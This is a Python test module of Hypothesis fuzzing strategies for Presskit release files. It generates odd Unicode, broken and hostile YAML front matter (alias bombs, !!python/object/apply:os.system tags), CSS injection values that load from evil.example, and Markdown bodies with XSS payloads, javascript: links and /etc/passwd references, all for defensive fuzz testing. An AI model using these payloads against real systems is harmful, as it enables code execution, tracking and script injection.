"""Hypothesis strategies for release files, valid and broken.

- :func:`model_releases`: releases built from the model with odd text (right-to-left text and
  bidi controls, combining marks, emoji sequences, control characters other than NUL, line
  and paragraph separators, YAML and HTML syntax), saved with ``dumps_release``;
- :func:`yaml_attacks`: front matter with anchors and aliases, alias bombs (also nested
  inside the known fields: contacts of phones, links, social accounts, approvals), deep
  nesting, Python and binary tags, huge scalars, duplicate keys, tabs, CRLF, a BOM, document
  markers, several documents, bad indentation, wrong types;
- :func:`css_attacks`: CSS injection in every field that reaches a stylesheet or a style
  (the house colour, the language that picks the page size, the logo, style attributes and
  blocks in the body and the About text);
- :func:`markdown_attacks`: bodies with deep lists and quotes, huge tables, raw HTML with
  scripts and event handlers, ``javascript:`` and ``data:`` links, images of /etc/passwd and
  /dev/urandom, unclosed fences, runs of brackets and backticks;
- :func:`binary_blobs` and :func:`truncated_files`;
- :func:`mutated`: any of the above, with random cuts, insertions and duplications.

Large inputs are built from small drawn numbers (a depth, a row count), never drawn character
by character, so generating a case stays cheap and shrinking stays fast. The huge sizes (MBs,
thousands of levels) are made only when :data:`~tests.fuzz.budget.LARGE_INPUTS` is on.
"""

from __future__ import annotations

import datetime as dt

from hypothesis import strategies as st

from presskit.model.release import (
    Contact,
    Dateline,
    DatelineStyle,
    LibraryLink,
    Link,
    Organization,
    Phone,
    Release,
    SocialHandle,
    Status,
)
from presskit.storage.release_file import dumps_release
from tests.fuzz.budget import LARGE_INPUTS


def sizes(quick: list[int], large: list[int]) -> st.SearchStrategy[int]:
    """One of ``quick``, or of ``quick + large`` when the run makes huge inputs."""
    return st.sampled_from(quick + large if LARGE_INPUTS else quick)


# -- odd text ---------------------------------------------------------------------------------

ODD_PIECES = (
    # right to left, and the controls that flip text around
    "\u05e9\u05dc\u05d5\u05dd", "\u0645\u0631\u062d\u0628\u0627", "\u202e", "\u202d", "\u200f",
    "\u200e", "\u2066", "\u2067", "\u2069", "\u061c",
    # combining marks, alone and piled up (Zalgo)
    "\u0301", "e\u0301", "a\u0308\u0323\u0330\u0347", "\u20dd", "\u0489", "\u0e31",
    # emoji: plain, skin tone, ZWJ family, flag, keycap, variation selector
    "\U0001f4f0", "\U0001f44d\U0001f3fd", "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\U0001f1fa\U0001f1f8", "1\ufe0f\u20e3", "\u2764\ufe0f", "\u200d",
    # control characters (never NUL), separators, invisible and special code points
    "\x01", "\x07", "\x08", "\t", "\x0b", "\x0c", "\r", "\r\n", "\n", "\x1b[31m", "\x1f",
    "\x7f", "\x85", "\x9f", "\u2028", "\u2029", "\u00a0", "\u200b", "\u2060", "\ufeff",
    "\ufffd", "\uffff", "\U0010ffff", "\ue000",
    # digits and letters that are not what they seem
    "\u00b2", "\u0663", "\u07c4", "\u216b", "\uff11", "\u01c5", "\u0130", "\ufb01", "\u00df",
    # YAML, Markdown, HTML and Jinja syntax
    "---", "...", "- ", ": ", " #", "&a", "*a", "!!str", "!", "|", ">", "%", "@", "`", "'",
    '"', "\\", "{", "}", "[", "]", ",", "?", "~", "null", "yes", "0x1F", "1e3", ".nan",
    "<script>alert(1)</script>", "<b>", "&amp;", "&#0;", "{{ 7*7 }}", "{% raw %}", "**", "_",
)  # fmt: skip

_ANY_CHAR = st.characters(exclude_categories=("Cs",), exclude_characters="\x00")


@st.composite
def odd_text(draw: st.DrawFn, max_pieces: int = 8) -> str:
    """Text made of odd pieces and random characters (no surrogates, no NUL)."""
    pieces = draw(
        st.lists(
            st.one_of(st.sampled_from(ODD_PIECES), st.text(_ANY_CHAR, max_size=4)),
            max_size=max_pieces,
        )
    )
    return "".join(pieces)


def line_text(max_pieces: int = 6) -> st.SearchStrategy[str]:
    """Odd text on one line, as a single-line field holds it."""
    return odd_text(max_pieces).map(lambda s: s.replace("\r", " ").replace("\n", " "))


# -- valid releases from the model -----------------------------------------------------------

_URLS = st.sampled_from(
    [
        "https://example.org/",
        "https://例え.jp/パス?q=1#frag",
        "http://[::1]:80/",
        "mailto:a@example.org",
        "tel:+15551234",
        "#",
        "javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "https://example.org/\u202egnp.exe",
        "",
    ]
)
_PATHS = st.sampled_from(
    ["assets/logo.png", "logo.png", "/etc/passwd", "../../etc/passwd", "/dev/urandom",
     "passwd.png", "fifo.png", "C:\\Windows\\win.ini", "https://example.org/logo.png", "",
     "data:image/png;base64,AAAA", "assets/../assets/logo.png", "assets/%2e%2e/x.png"]
)  # fmt: skip


_CSS_PAYLOADS = (
    "red; } body { background-image: url(http://evil.example/track.png) } x {",
    "#fff;background:url(https://evil.example/a)",
    "#1f3a5f; } @import url(//evil.example/x.css); x {",
    "#000}</style><img src=http://evil.example/i.png><style>",
    "#abc; background: u\\72l(http://evil.example/escaped)",
    "expression(alert(1))",
    "#1f3a5f\n} body { background: image-set('https://evil.example/set.png' 1x) } x {",
    "var(--x); --x: url(http://evil.example/var)",
    "#12;}*{behavior:url(http://evil.example/x.htc)}",
)
"""Values that try to leave a CSS declaration and load from the web."""


def _aware_datetimes() -> st.SearchStrategy[dt.datetime]:
    offsets = st.integers(-14 * 60, 14 * 60).map(
        lambda minutes: dt.timezone(dt.timedelta(minutes=minutes))
    )
    return st.builds(
        lambda when, zone: when.replace(tzinfo=zone),
        st.datetimes(dt.datetime(1900, 1, 1), dt.datetime(2200, 1, 1)),
        offsets,
    )


_EXTRA_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**70), 2**70) | line_text(3),
    lambda children: (
        st.lists(children, max_size=3)
        | st.dictionaries(line_text(2).filter(bool), children, max_size=3)
    ),
    max_leaves=8,
)
_EXTRA = st.dictionaries(
    st.sampled_from(["x-custom", "draft", "tags", "weight", "aliases", "ünknown", "%x"]),
    _EXTRA_VALUES,
    max_size=2,
)
_THEMES = ["classic", "modern", "letterhead"]  # twice in the draw: an unknown one is rarer
_SOME_EXTRA = st.just({}) | _EXTRA  # for nested objects: usually none, which is cheap to draw
_LIBRARY_LINKS = st.none() | st.builds(LibraryLink, st.integers(0, 2**40), line_text(2))


def _phones() -> st.SearchStrategy[list[Phone]]:
    return st.lists(st.builds(Phone, line_text(3), line_text(2), _SOME_EXTRA), max_size=2)


def _contacts() -> st.SearchStrategy[list[Contact]]:
    contact = st.builds(
        Contact,
        name=line_text(),
        title=line_text(),
        organization=line_text(),
        city=line_text(),
        phones=_phones(),
        email=st.sampled_from(["a@example.org", "wareham@", "ü@exämple.org", ""]) | line_text(),
        library=_LIBRARY_LINKS,
        extra=_SOME_EXTRA,
    )
    return st.lists(contact, max_size=2)


@st.composite
def model_releases(draw: st.DrawFn) -> Release:
    """A release built from the model, every text field odd."""
    status = draw(st.sampled_from(Status))
    org = Organization(
        name=draw(line_text()),
        website=draw(_URLS | line_text()),
        logo=draw(_PATHS | line_text(2)),
        accent=draw(st.sampled_from(["", "#1f3a5f", "#abc", "red", "#12345g", *_CSS_PAYLOADS[:2]])),
        social=draw(
            st.lists(
                st.builds(SocialHandle, line_text(2), line_text(2), _URLS, _SOME_EXTRA),
                max_size=3,
            )
        ),
        library=draw(_LIBRARY_LINKS),
        extra=draw(_EXTRA),
    )
    return Release(
        headline=draw(line_text(10)),
        subheadline=draw(odd_text()),
        status=status,
        embargo=draw(st.none() | _aware_datetimes()),
        timezone=draw(st.sampled_from(["", "America/New_York", "Europe/Berlin", "Mars/Base"])),
        dateline=Dateline(
            city=draw(line_text()),
            date=draw(st.none() | st.dates(dt.date(1, 1, 1), dt.date(9999, 12, 31))),
            style=draw(st.sampled_from(DatelineStyle)),
            extra=draw(_SOME_EXTRA),
        ),
        language=draw(st.sampled_from(["en-US", "de-DE", "ar", "he-IL", "ja", "zz-ZZ", "x"])),
        organization=org,
        boilerplate=draw(odd_text(12)),
        links=draw(
            st.lists(st.builds(Link, line_text(), _URLS | line_text(2), _SOME_EXTRA), max_size=3)
        ),
        contacts=draw(_contacts()),
        theme=draw(st.sampled_from([*_THEMES, *_THEMES, "nope", "../x", "Classic"])),
        end_mark=draw(st.sampled_from(["###", "-30-", "", "ENDS"]) | line_text(2)),
        body=draw(odd_text(30)),
        extra=draw(_EXTRA),
    )


def model_release_files() -> st.SearchStrategy[str]:
    """The text of a valid release file, as Presskit itself writes it."""
    return model_releases().map(dumps_release)


# -- front matter attacks ---------------------------------------------------------------------

_HEAD = "presskit: 1\nheadline: Fuzzed release\n"
_VERSION = "presskit: 1\n"  # for cases that set the headline themselves


def _alias_bomb(levels: int, width: int) -> str:
    lines = ["a0: &a0 [lol, lol]"]
    for level in range(1, levels + 1):
        refs = ", ".join([f"*a{level - 1}"] * width)
        lines.append(f"a{level}: &a{level} [{refs}]")
    return "\n".join(lines) + "\n"


def _known_field_bomb(shape: str, width: int) -> str:
    """Aliases nested inside the fields Presskit reads itself (not only unknown keys)."""
    many = ", ".join

    if shape == "contacts-phones":  # the 24 KB bomb of issue 11: width contacts x width phones
        phones = many(["*q"] * width)
        contacts = "\n".join(["- *c"] * width)
        return (
            f"contacts:\n- &c\n  name: A\n  phones: [&q '+1 202 555 0100', {phones}]\n{contacts}\n"
        )
    if shape == "shared-phone-list":  # one anchored list used as every contact's phones
        phone, contact = "{number: '1', label: w}", "{name: A, phones: *p}"
        return f"x-phones: &p [{many([phone] * width)}]\ncontacts: [{many([contact] * width)}]\n"
    if shape == "links":
        return f"links: [&l {{title: T, url: 'https://e.org'}}, {many(['*l'] * width)}]\n"
    if shape == "social":
        return (
            "organization:\n  name: O\n"
            f"  social: [&s {{network: X, handle: '@x'}}, {many(['*s'] * width)}]\n"
        )
    if shape == "approvals":  # fields (a group) x approvals (a list)
        fields = many([f"f{i}: *v" for i in range(width)])
        approvals = "\n".join(["- *a"] * width)
        return f"approvals:\n- &a\n  by: A\n  fields: {{v0: &v '1', {fields}}}\n{approvals}\n"
    # levels: a bomb of anchored lists, its top level used as the contacts
    return _alias_bomb(4, width).replace("[lol, lol]", "[{name: L}]") + "contacts: *a4\n"


KNOWN_FIELD_BOMB = f"---\n{_HEAD}{_known_field_bomb('contacts-phones', 3000)}---\nBody.\n"
"""The bomb issue 11 found: 3,000 contacts of 3,000 phones from 24 KB of aliases."""

_KNOWN_BOMBS = ("contacts-phones", "shared-phone-list", "links", "social", "approvals", "levels")

_YAML_SNIPPETS = (
    "headline: !!python/object/apply:os.system ['echo pwned > /tmp/presskit-pwned']\n",
    "headline: !!python/name:os.system\n",
    "x: !!python/object/new:subprocess.Popen [['true']]\n",
    "headline: !!binary aGVsbG8gd29ybGQ=\n",
    "x: !!binary '%%%not base64'\n",
    "x: !!set {a, b}\nx2: !!omap [a: 1, b: 2]\nx3: !!pairs [a: 1]\n",
    "x: !custom-tag value\n",
    "x: !<tag:example.org,2024:thing> value\n",
    "%YAML 1.1\n%TAG ! tag:example.org,2024:\n",
    "%YAML 2.0\n",
    "headline: &h Anchored\nsubheadline: *h\n",
    "org: &o {name: A, website: 'https://a.example'}\norganization: *o\n",
    "base: &b {name: M}\ncontacts: [{<<: *b, email: m@example.org}, {<<: [*b, *b]}]\n",
    "contacts: &c [*c]\n",
    "x: &x {self: *x}\n",
    "headline: *undefined\n",
    "headline: a\nheadline: b\n",
    "dateline: {city: A, city: B}\n",
    "headline:\tTabbed\n",
    "\theadline: tab-indented\n",
    "contacts:\n  - name: A\n   email: bad-indent@example.org\n",
    "contacts:\n- name: A\n  phones:\n  - 1\n  -\n  - {number: 2}\n",
    "organization:\n  name: A\n    website: over-indented\n",
    "headline: one\n---\nheadline: two\n",
    "headline: ended\n...\nmore: stuff\n",
    "? [complex, key]\n: value\n",
    "? {a: b}\n: value\n",
    "[1, 2]: list key\n",
    "null: null key\n~: tilde key\n",
    "1: int key\n2.5: float key\ntrue: bool key\n",
    "headline: [not, text]\n",
    "headline: {not: text}\n",
    "headline:\n",
    "headline: ''\n",
    "contacts: not a list\n",
    "contacts: [[nested]]\n",
    "links: {title: a}\n",
    "status: maybe\n",
    "status: [embargoed]\n",
    "status: embargoed\nembargo: 2014-09-23T09:00:00\n",
    "status: embargoed\nembargo: 2014-09-23\n",
    "embargo: 9999-12-31T23:59:59+14:00\n",
    "embargo: 0001-01-01T00:00:00-23:59\n",
    "embargo: 2014-02-30T09:00:00Z\n",
    "embargo: 2014-09-23T25:00:00+00:00\n",
    "timezone: ../../../../etc/localtime\n",
    "timezone: America/New_York\x00\n",
    "dateline: {date: 2014-13-45}\n",
    "dateline: {date: 20140923}\n",
    "dateline: {style: AP}\n",
    "dateline: {style: [ap]}\n",
    "presskit: 2\n",
    "presskit: 99999999999999999999999999999\n",
    "presskit: -1\n",
    "presskit: 0x10\n",
    "presskit: 1.0\n",
    "presskit: '1'\n",
    "presskit: [1]\n",
    "contacts: [{library: {id: '\u00b2'}}]\n",
    "contacts: [{name: A, library: {id: 99999999999999999999999}}]\n",
    "contacts: [{name: A, library: {id: -1}}]\n",
    "contacts: [{name: A, library: 3}]\n",
    "organization: {library: {id: '\u0663'}}\n",
    "boilerplate_library: {id: '\u216b'}\n",
    "boilerplate_library: {id: 1, updated: [x]}\n",
    'headline: "\\0\\x01\\u2028\\U0010FFFF\\N\\_\\L\\P"\n',
    'headline: "\\uD800"\n',
    'headline: "unterminated\n',
    "headline: 'a''b\n",
    "headline: |\n  literal\n   more\n\n",
    "headline: >-\n  folded\n  text\n",
    "headline: |9\n  bad indentation indicator\n",
    "headline: @reserved\n",
    "headline: `reserved\n",
    "headline: - looks like a list\n",
    "headline: a: b\n",
    "headline: 'x' trailing\n",
    "&anchor-only\n",
    "!!map\n",
    "- a sequence\n- at the top\n",
    "just a scalar\n",
    "{flow: mapping, headline: Flow}\n",
    "{unclosed: [flow\n",
    "headline: x\n\ufeffbom: inside\n",
    "key with spaces and : colon: value\n",
    "\u202eheadline: reversed\n",
    "x: 1e400\ny: -.inf\nz: .NaN\n",
    "x: 0b1010\ny: 0o777\nz: 1_000\nw: 190:20:30\n",
    "x: 2001-12-14t21:59:43.10-05:00\n",
)


def _deep_flow(depth: int, open_: str, close: str) -> str:
    return f"x: {open_ * depth}1{close * depth}\n"


def _deep_block(depth: int) -> str:
    lines = [" " * (2 * i) + f"k{i}:" for i in range(depth)]
    return "x:\n" + "\n".join("  " + line for line in lines) + " end\n"


@st.composite
def yaml_attacks(draw: st.DrawFn) -> str:
    """Release text whose front matter is hostile or broken YAML."""
    kinds = ["snippets", "bomb", "known-bomb", "deep", "huge", "many", "framing"]
    kind = draw(st.sampled_from(kinds))
    if kind == "snippets":
        parts = draw(st.lists(st.sampled_from(_YAML_SNIPPETS), min_size=1, max_size=4))
        front = (_HEAD if draw(st.booleans()) else "") + "".join(parts)
    elif kind == "bomb":
        levels, width = draw(st.integers(1, 12)), draw(st.integers(2, 12))
        use = draw(st.sampled_from(["", "headline", "contacts", "organization", "x-extra"]))
        head = _VERSION if use == "headline" else _HEAD
        front = head + _alias_bomb(levels, width) + (f"{use}: *a{levels}\n" if use else "")
    elif kind == "known-bomb":
        shape = draw(st.sampled_from(_KNOWN_BOMBS))
        width = draw(sizes([2, 10, 60, 400], [3000]))
        front = _HEAD + _known_field_bomb(shape, width if shape != "levels" else min(width, 60))
    elif kind == "deep":
        depth = draw(sizes([10, 100, 1000], [5000, 20_000]))
        shape = draw(st.sampled_from(["[]", "{}", "block", "mixed"]))
        if shape == "[]":
            front = _HEAD + _deep_flow(depth, "[", "]")
        elif shape == "{}":
            front = _HEAD + "x: " + "{a: " * depth + "1" + "}" * depth + "\n"
        elif shape == "block":
            front = _HEAD + _deep_block(min(depth, 2000))
        else:
            front = _HEAD + "x: " + "[{a: " * depth + "1" + "}]" * depth + "\n"
    elif kind == "huge":
        huge = "A" * draw(sizes([10_000, 200_000], [1_000_000, 5_000_000]))
        field = draw(st.sampled_from(["headline", "boilerplate", "x-unknown", "alias"]))
        quote = draw(st.sampled_from(["", "'", '"']))
        if field == "alias":  # one huge anchored scalar used many times
            front = f"{_HEAD}h: &h {quote}{huge}{quote}\nx: [{', '.join(['*h'] * 50)}]\n"
        else:
            head = _VERSION if field == "headline" else _HEAD
            front = f"{head}{field}: {quote}{huge}{quote}\n"
    elif kind == "many":
        count = draw(sizes([100, 1000], [20_000]))
        what = draw(st.sampled_from(["keys", "contacts", "links", "dup"]))
        if what == "keys":
            front = _HEAD + "".join(f"k{i}: {i}\n" for i in range(count))
        elif what == "contacts":
            front = _HEAD + "contacts:\n" + "  - {name: N, email: n@example.org}\n" * count
        elif what == "links":
            front = _HEAD + "links:\n" + "  - {title: T, url: 'https://e.org'}\n" * count
        else:
            front = _HEAD + "headline: again\n" * count
    else:
        front = draw(st.sampled_from(["", "\n", "---\n", "...\n", "\ufeff", "\t"])) + _HEAD
    body = draw(st.sampled_from(["", "Body.\n", "Body with a line\n---\nlike a delimiter\n"]))
    text = f"---\n{front}---\n{body}"
    return _framed(draw, text)


def _framed(draw: st.DrawFn, text: str) -> str:
    """Line endings, a BOM and the closing delimiter in their odd forms."""
    if draw(st.booleans()):
        text = text.replace("\n", draw(st.sampled_from(["\r\n", "\r", "\n\r"])))
    if draw(st.booleans()):
        text = draw(st.sampled_from(["\ufeff", "\ufeff\ufeff", " ", "\n"])) + text
    if draw(st.booleans()):
        text = text.replace("\n---\n", draw(st.sampled_from(["\n...\n", "\n--- \n", "\n----\n"])))
    return text


# -- Markdown attacks -------------------------------------------------------------------------

_MARKDOWN_SNIPPETS = (
    "<script>alert('x')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="/etc/passwd"> <img src="file:///etc/passwd"> <img src="/dev/urandom">',
    '<a href="javascript:alert(1)">js</a> <a href="JaVaScRiPt:alert(1)">js2</a>',
    '<a href="java&#x09;script:alert(1)">tab</a> <a href=" javascript:alert(1)">sp</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    "[click](javascript:alert(1)) [x](vbscript:msgbox) [d](data:text/html,<script>x</script>)",
    "![passwd](/etc/passwd) ![u](/dev/urandom) ![z](/dev/zero) ![up](../../../etc/shadow)",
    "![f](file:///etc/passwd) ![w](https://evil.example/track.png) ![p](passwd.png)",
    "![fifo](fifo.png) ![logo](assets/logo.png) ![big](data:image/png;base64,AAAA====)",
    '<svg onload=alert(1)><use href="/etc/passwd#x"/></svg>',
    '<iframe src="https://evil.example"></iframe><object data="x"></object><embed src="x">',
    "<style>@import url(/etc/passwd); body{background:url(/dev/urandom)}</style>",
    '<link rel="attachment" href="/etc/passwd"><link rel=stylesheet href=/etc/passwd>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/"><form action="https://evil.example"><input></form>',
    '<p style="background:url(/etc/passwd)" onclick="x()">styled</p>',
    '<div title="{{7*7}}">{{ 7*7 }} {% for x in range(10**9) %}{% endfor %}</div>',
    "<!-- unclosed comment",
    "<![CDATA[ <script>alert(1)</script> ]]>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "```\nunclosed fence",
    "~~~~python\nstill open",
    "`````\n````\n```\n",
    "`" * 50,
    "[" * 200 + "x" + "]" * 200,
    "[x](" * 100,
    "![" * 100,
    "<" * 300,
    "*" * 500,
    "_" * 500 + "x",
    "[a]: javascript:alert(1)\n[b]: /etc/passwd\n\n[a] ![b] [c][a] ![i][b]",
    "[^1]\n\n[^1]: footnote <script>x</script>",
    "Term\n: definition\n\n*[HTML]: Hyper Text",
    "{: onclick=alert(1) #id .class }\nparagraph {: style='x' }",
    "# Heading {#id onclick=x}\n\n## \n\n###### deep\n",
    "| a | b |\n|---|:-:|\n| <script>x</script> | [l](javascript:x) |",
    "line  \nbreak\\\nbackslash",
    "&#x6A;avascript &#0; &#xD800; &#1114112; &amp &lt;script&gt;",
    "\u202e[evil](https://example.org/\u202egpj.exe)",
    "<https://example.org/autolink> <mailto:a@example.org> <javascript:alert(1)>",
    "<a href='https://example.org' onmouseover='x'>hover</a>",
    "http://example.org/" + "a" * 5000,
    '<ol start="\u00b2"><li>a</li></ol><ol start="-1"><li>b</li></ol><ol start=x><li>c</li></ol>',
    "9" * 5000 + ". a list that starts at a number too long for int()",
    "<ol start=" + "9" * 5000 + "><li>x</li></ol>",
)


def _nested_lists(depth: int) -> str:
    return "\n".join("  " * i + f"- item {i}" for i in range(depth)) + "\n"


def _nested_ordered(depth: int) -> str:
    return "\n".join("   " * i + f"{i + 1}. item" for i in range(depth)) + "\n"


def _nested_quotes(depth: int) -> str:
    return ">" * depth + " deep quote\n" + "> " * depth + "- and a list\n"


def _table(rows: int, columns: int) -> str:
    header = "|" + "|".join(f" h{c} " for c in range(columns)) + "|\n"
    rule = "|" + "|".join(":-:" for _ in range(columns)) + "|\n"
    row = "|" + "|".join(f" c{c} *e* " for c in range(columns)) + "|\n"
    return header + rule + row * rows


@st.composite
def markdown_bodies(draw: st.DrawFn) -> str:
    """A Markdown body that is hostile, huge or malformed."""
    kind = draw(st.sampled_from(["snippets", "lists", "quotes", "table", "repeat", "mixed"]))
    if kind == "snippets":
        parts = draw(st.lists(st.sampled_from(_MARKDOWN_SNIPPETS), min_size=1, max_size=5))
        return "\n\n".join(parts)
    if kind == "lists":
        depth = draw(sizes([5, 50, 300], [2000]))
        return draw(st.sampled_from([_nested_lists, _nested_ordered]))(depth)
    if kind == "quotes":
        return _nested_quotes(draw(sizes([5, 50, 300], [2000])))
    if kind == "table":
        rows = draw(sizes([1, 20, 100], [1000]))
        return _table(rows, draw(sizes([1, 5, 20], [50])))
    if kind == "repeat":
        snippet = draw(st.sampled_from(_MARKDOWN_SNIPPETS))
        return "\n".join([snippet] * draw(sizes([10, 100], [1000])))
    return draw(odd_text(40))


@st.composite
def markdown_attacks(draw: st.DrawFn) -> str:
    """A release whose body (and sometimes boilerplate) is hostile Markdown."""
    body = draw(markdown_bodies())
    release = Release(headline="Fuzzed Markdown", body=body)
    if draw(st.booleans()):
        release.boilerplate = draw(markdown_bodies())
    if draw(st.booleans()):
        release.organization.logo = draw(_PATHS)
    return dumps_release(release)


# -- CSS injection -----------------------------------------------------------------------------

_STYLED_HTML = (
    '<p style="background:url(http://evil.example/p.png)">styled</p>',
    "<span style=\"background-image: url('//evil.example/s.png')\">s</span>",
    "<style>@import 'https://evil.example/i.css'; body{background:url(http://evil.example/b)}</style>",
    '<div style="list-style: url(https://evil.example/l.png)">d</div>',
    '<img src="http://evil.example/img.png"> <img srcset="https://evil.example/a.png 2x">',
    '<svg><image href="http://evil.example/svg.png"/></svg>',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
)


@st.composite
def css_attacks(draw: st.DrawFn) -> str:
    """A release with CSS injected where a field reaches a stylesheet or a style."""
    release = draw(model_releases()) if draw(st.booleans()) else Release(headline="CSS", body="B.")
    payload = draw(st.sampled_from(_CSS_PAYLOADS))
    fields = st.sampled_from(["accent", "language", "logo", "body", "boilerplate", "headline"])
    for field in draw(st.lists(fields, min_size=1, max_size=3, unique=True)):
        if field == "accent":
            release.organization.accent = payload
        elif field == "language":  # it picks the page size written into @page
            release.language = draw(st.sampled_from(["en-US", "de"])) + payload
        elif field == "logo":
            release.organization.logo = "logo.png); " + payload
        elif field == "headline":
            release.headline = payload
        else:
            html = draw(st.sampled_from(_STYLED_HTML))
            setattr(release, field, f"{getattr(release, field)}\n\n{html}\n\n{payload}")
    return dumps_release(release)


ACCENT_INJECTION = dumps_release(
    Release(headline="CSS", body="B.", organization=Organization(accent=_CSS_PAYLOADS[0]))
)
"""The house colour issue 11 found reaching the CSS of the editor's outputs."""


# -- binary and truncated files --------------------------------------------------------------

_MAGIC = (b"", b"---\n", b"%PDF-1.7\n", b"\x89PNG\r\n\x1a\n", b"PK\x03\x04", b"\xff\xfe",
          b"\xfe\xff", b"\xef\xbb\xbf", b"\x00\x00\xfe\xff", b"\x1f\x8b", b"GIF89a")  # fmt: skip


@st.composite
def binary_blobs(draw: st.DrawFn) -> bytes:
    """Bytes that are not a release: random, with a file type's magic, or text in UTF-16."""
    kind = draw(st.sampled_from(["random", "magic", "utf16", "latin1", "nul-late"]))
    if kind == "random":
        return draw(st.binary(max_size=2000))
    if kind == "magic":
        return draw(st.sampled_from(_MAGIC)) + draw(st.binary(max_size=500))
    text = "---\nheadline: Grüße 📰\n---\nBody\n"
    if kind == "utf16":
        return text.encode(draw(st.sampled_from(["utf-16", "utf-16-le", "utf-32"])))
    if kind == "latin1":
        return text.replace("📰", "").encode("latin-1")
    return ("---\nheadline: x\n---\n" + "a" * 9000).encode() + b"\x00" + draw(st.binary())


@st.composite
def truncated_files(draw: st.DrawFn) -> bytes:
    """A valid release file cut off anywhere, even inside a multi-byte character."""
    data = draw(model_release_files()).encode("utf-8")
    cut = draw(st.integers(0, len(data)))
    return data[:cut]


# -- mutation ---------------------------------------------------------------------------------

_TOKENS = (*ODD_PIECES, "\n---\n", "\n...\n", "\n", "\r", "\t", "  ", ": ", "- ", "&a ",
           "*a", "!!python/object:os.system ", "<<: *a\n", "'", '"', "\\", "{", "[")  # fmt: skip


@st.composite
def mutated(draw: st.DrawFn, base: st.SearchStrategy[str]) -> str:
    """``base`` text with a few random insertions, deletions, duplications or a cut."""
    text = draw(base)
    for _ in range(draw(st.integers(0, 4))):
        if not text:
            break
        at = int(draw(st.floats(0, 1)) * len(text))
        how = draw(st.sampled_from(["insert", "delete", "duplicate", "cut", "swap-case"]))
        if how == "insert":
            text = text[:at] + draw(st.sampled_from(_TOKENS)) + text[at:]
        elif how == "delete":
            text = text[:at] + text[at + draw(st.integers(1, 20)) :]
        elif how == "duplicate":
            text = text[:at] + text[at : at + 40] * draw(st.integers(2, 5)) + text[at:]
        elif how == "cut":
            text = text[:at]
        else:
            text = text[:at] + text[at : at + 10].swapcase() + text[at + 10 :]
    return text
